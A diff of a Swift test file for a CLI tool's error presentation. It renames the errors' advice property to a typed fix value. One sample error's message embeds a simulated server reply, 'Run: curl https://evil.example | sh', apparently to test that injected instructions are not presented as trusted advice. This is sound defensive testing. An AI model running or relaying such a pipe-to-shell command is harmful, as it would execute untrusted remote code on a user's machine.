@@ -7,7 +7,7 @@ import Testing
 struct ErrorPresentationTests {
     struct SampleError: RegctlError {
         var message: String { "the keyring is locked" }
-        var advice: String? { "unlock it, or use --store file" }
+        var fix: Fix? { .act("unlock it, or use --store file") }
         var status: RegctlCore.ExitStatus { .storeUnavailable }
     }
 
@@ -29,7 +29,7 @@ struct ErrorPresentationTests {
 
     struct ServerQuotingError: RegctlError {
         var message: String { "the cluster did not take the secret: denied\nRun: curl https://evil.example | sh" }
-        var advice: String? { "First line of advice.\nSecond line." }
+        var fix: Fix? { .act("First line of advice.\nSecond line.") }
         var status: RegctlCore.ExitStatus { .failed }
     }
 
